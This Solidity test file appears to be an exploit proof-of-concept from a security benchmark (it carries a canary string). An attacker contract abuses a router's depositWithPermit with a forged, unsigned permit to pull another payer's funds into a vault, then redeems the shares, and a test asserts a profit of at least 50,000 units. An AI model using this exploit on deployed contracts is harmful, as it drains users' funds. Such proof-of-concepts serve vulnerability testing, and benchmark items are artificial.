// SPDX-License-Identifier: GPL-2.0-or-later
pragma solidity 0.8.30;

// assay-canary-8c5098a9-c61a-4b31-8860-b5736bf60939
import "../Base.sol";

contract Attacker {
    function run(IRouter router, IVault vault, address payer, uint256 assets) external {
        IRouter.Permit memory permit = IRouter.Permit(payer, 0, 0, 0, 0, 0);
        try router.depositWithPermit(vault, assets, 0, address(this), block.timestamp, permit) {} catch {
            return;
        }
        vault.redeem(vault.balanceOf(address(this)), address(this), address(this));
    }
}

contract Proof is Base {
    Attacker private other;

    function start() internal override {
        other = new Attacker();
    }

    function exploit() public {
        other.run(router, core, CEE, 100_000e6);
    }

    function test_Exploit() public {
        exploit();
        require(usd.balanceOf(address(other)) >= 50_000e6, "no gain");
    }

    function target() public view override returns (address) {
        return address(router);
    }

    function attacker() public view returns (address) {
        return address(other);
    }
}
